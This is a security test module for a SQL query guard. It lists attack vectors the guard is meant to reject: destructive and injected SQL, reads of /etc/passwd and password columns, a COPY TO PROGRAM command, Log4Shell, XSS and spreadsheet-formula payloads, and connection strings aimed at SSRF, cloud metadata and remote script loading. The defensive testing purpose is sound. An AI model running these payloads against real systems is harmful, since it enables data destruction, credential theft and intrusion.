"""Attacks for whole paths through the API, one a line; the tables of the guard hold the many others."""

from __future__ import annotations

import re

from tests.security import guard_vectors
from tests.security.guard_vectors_dialects import BY_DIALECT, FUNCTIONS, OWN

CLASSIC = [
    "WITH gone AS (DELETE FROM flights RETURNING *) SELECT * FROM gone",
    "WITH added AS (INSERT INTO flights (id) VALUES (99) RETURNING *) SELECT * FROM added",
    "WITH changed AS (UPDATE flights SET region = 'EU' RETURNING *) SELECT * FROM changed",
    "SELECT * INTO stolen FROM flights",
    "SELECT 1; DROP TABLE flights",
    "SELECT 1; DELETE FROM flights; COMMIT",
    "SET TRANSACTION READ WRITE; DELETE FROM flights; COMMIT",
    "ROLLBACK; DELETE FROM flights",
    "EXPLAIN ANALYZE DELETE FROM flights",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT * FROM dblink('dbname=x', 'DELETE FROM flights') AS t(a int)",
    "SELECT query_to_xml('DELETE FROM flights', true, true, '')",
    "SELECT pg_sleep(30)",
    "SELECT sleep(30)",
    "SELECT set_config('transaction_read_only', 'off', false)",
    "SELECT nextval('s')",
    "SELECT pg_terminate_backend(pg_backend_pid())",
    "SELECT load_file('/etc/passwd')",
    "SELECT * FROM flights FOR UPDATE",
    "SELECT * FROM pg_shadow",
    "SELECT * FROM mysql.user",
    "SELECT 1 INTO OUTFILE '/tmp/aiser-attack'",
    "COPY flights TO PROGRAM 'id'",
    "COPY flights TO '/tmp/aiser-attack'",
    "CALL stolen()",
    "SET ROLE postgres",
    "SET statement_timeout = 0",
    "RESET ALL",
    "PREPARE p AS DELETE FROM flights",
    "NOTIFY stolen",
    "LOCK TABLE flights",
    "VACUUM",
    "DO $$ BEGIN DELETE FROM flights; END $$",
    "INSERT INTO flights (id) VALUES (99)",
    "UPDATE flights SET region = 'EU'",
    "DELETE FROM flights",
    "TRUNCATE TABLE flights",
    "DROP TABLE flights",
    "ALTER TABLE flights ADD COLUMN stolen INTEGER",
    "CREATE TABLE stolen AS SELECT * FROM flights",
    "CREATE TEMP TABLE stolen AS SELECT * FROM flights",
    "GRANT ALL ON flights TO public",
    "TABLE users",
    "SELECT * FROM users",
    "SELECT * FROM flights UNION ALL SELECT * FROM users",
    "SELECT (SELECT max(password) FROM users)",
]
"""The 37 vectors that were measured on guards of other products (bi-anchors §4.2), and their kin."""

HARMLESS = [
    "SELECT carrier FROM flights WHERE carrier = 'DELETE'",
    "SELECT 'drop table flights; --' AS text FROM flights",
    'SELECT carrier AS "update" FROM flights',
    "SELECT count(*) AS n FROM flights -- ; DROP TABLE flights",
    "SELECT count(*) AS n FROM flights /* ; DROP TABLE flights */",
    "WITH x AS (SELECT * FROM flights) SELECT count(*) AS n FROM x",
    "SELECT 1 AS n;",
]
"""False alarms of guards that look for words."""

EXPRESSIONS = [
    "(SELECT max(password) FROM users)",
    "1) UNION SELECT password FROM users --",
    "carrier; DROP TABLE flights",
    "EXISTS (SELECT 1 FROM users)",
    "carrier IN (SELECT password FROM users)",
    "carrier IN users",
    "true OR true; DELETE FROM flights",
    "count(*) > 1",
    "sum(distance) OVER () > 1",
    "1 = 1) OR (1 = 1",
    "flights.* IS NOT NULL",
    "nothing = 1",
    "users.password = 'x'",
    "* = 1",
    "",
    "   ",
    "-- nothing",
    "/* open",
    "carrier = 'open",
    "'" + "x" * 5_000 + "' = carrier",
    "SELECT 1",
    "DELETE FROM flights",
    *(f"{function} IS NULL" for function in FUNCTIONS),
]
"""Where one expression is expected: sub-queries and breaking out of it (row 7)."""

VALUES = [
    "' OR '1' = '1",
    "'; DROP TABLE flights; --",
    "\\'; DROP TABLE flights; --",
    "x' UNION SELECT password FROM users --",
    "*/ ; DROP TABLE flights; /*",
    "\u02bc OR 1=1",
    "\uff07 OR 1=1 --",
    "${jndi:ldap://x}",
    "{{ 7 * 7 }}",
    "%s %(x)s :x ? $1 @x {x}",
    "aiser_p_0000000000000000_0001",
    "' || (SELECT password FROM users) || '",
    '" OR 1=1 --',
    "` OR 1=1 -- ",
    "carrier-2\\",
    "%",
    "_" * 9,
    "NULL",
    "0x63617272696572",
    "\u202ecarrier-2",
]
"""What sqlmap and its kin send where a value is expected (row 9)."""

CONFUSED = [
    {"$gt": ""},
    {"type": "text"},
    {"type": "sql", "value": "1 OR 1=1"},
    {"type": "text", "value": {"a": 1}},
    {"type": "text", "value": ["x"], "more": 1},
    {"type": ["text"], "value": "x"},
    {"type": "integer", "value": "1 OR 1=1"},
    {"type": "date", "value": "2024-01-01' OR '1'='1"},
    {"type": "boolean", "value": "1=1"},
    {"type": "decimal", "value": "NaN"},
    {"type": "number", "value": "Infinity"},
    [["x"]],
    [{"x": 1}],
    ["x", 1],
    [None],
    "x\x00y",
    "\ud800",
    "x" * 100_001,
]
"""Other JSON than a parameter can be."""

NAMES = [
    "x'; DROP TABLE flights; --",
    'x"; DROP TABLE flights; --',
    "*/ DROP TABLE flights; /*",
    "<img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}",
    "..",
    "%",
    "Orders\u200b",
    "\u202eOrders",
    "=cmd|' /C calc'!A0",
    "null",
    "0",
]
"""Names that people may give to sources and policies: they stay names (row 10)."""

URLS = [
    "sqlite:////etc/passwd",
    "sqlite:///../../etc/passwd",
    "sqlite:///..%2f..%2fetc%2fpasswd",
    "sqlite:///x.db?mode=rwc",
    "sqlite://host/x.db",
    "sqlite:///file:x.db?vfs=unix",
    "duckdb:///x.duckdb",
    "duckdb:///:memory:",
    "shillelagh://",
    "gsheets://",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "redis://127.0.0.1:6379",
    "http://169.254.169.254/latest/meta-data",
    "postgresql+psycopg2://u:p@h/d",
    "postgresql://u:p@h/d?options=-c%20log_statement%3Dall",
    "postgresql://u:p@h/d?sslkey=/etc/shadow",
    "postgresql://u:p@h/d?sslrootcert=/etc/passwd",
    "postgresql://u:p@h/d?service=x",
    "postgresql://u:p@h/d?passfile=/etc/passwd",
    "postgresql://u:p@h/d?host=/var/run/postgresql",
    "postgresql://u:p@h/d?hostaddr=127.0.0.1",
    "postgresql://u:p@h/d?sslmode=require&sslmode=disable",
    "postgresql://u:p@%2Fvar%2Frun%2Fpostgresql/d",
    "postgresql:///d?host=/tmp",
    "postgresql://u:p@h1,h2/d",
    "mysql://u:p@h/d?local_infile=1&allow_local_infile=true",
    "mysql://u:p@h/d?unix_socket=/tmp/mysql.sock",
    "mysql://u:p@h/d?init_command=DROP%20TABLE%20x",
    "mysql://u:p@h/d?read_default_file=/etc/mysql/my.cnf",
    "mysql+mysqldb://u:p@h/d",
    "mysql://u:p@h/d?plugin_dir=/tmp",
    "clickhouse://u:p@h/d?max_execution_time=0",
    "snowflake://u:p@a/d/s?private_key_file=/etc/shadow",
    "snowflake://u:p@a/d/s?authenticator=externalbrowser",
    "bigquery://p/d?credentials_path=/etc/passwd",
    "mssql://u:p@h/d?driver=/tmp/evil.so",
    "trino://u:p@h/c?verify=/etc/passwd",
    "databricks://token:x@h/?http_path=../../etc",
    "oracle://u:p@h/d",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x'",
    "postgresql://u:p@h:99999/d",
    "postgresql://u:p@h/d\nx",
    "postgresql://u:p@0x7f000001/d",
    "postgresql://u:p@2130706433/d",
    "postgresql://u:p@[::ffff:169.254.169.254]/d",
    "postgresql://u:p@169.254.169.254/d",
    "postgresql://u:p@0.0.0.0/d",
    "x" * 3_000,
    "",
]
"""Connection strings that read files, run code, or reach where nobody may (rows 3 and 11)."""

_NAMES = re.compile(r"\b(?<![.'\"/])(flights|airlines)\b(?!\s+AS \()")


def of_dialect(dialect: str) -> list[str]:
    """Every vector for a source that speaks a dialect, none twice."""
    many = guard_vectors.ALL if dialect == "duckdb" else BY_DIALECT[dialect]
    return list(dict.fromkeys([*CLASSIC, *guard_vectors.WRITES, *many]))


def few_of_dialect(dialect: str) -> list[str]:
    """For ways through which the same gate is reached once more."""
    return list(dict.fromkeys([*CLASSIC, *OWN[dialect][:12]]))


def across(sql: str, source: str, other: str) -> str:
    """The vector as a query over two sources, whose tables are written with their source."""
    return _NAMES.sub(lambda m: f"{source if m[1] == 'flights' else other}.{m[1]}", sql)
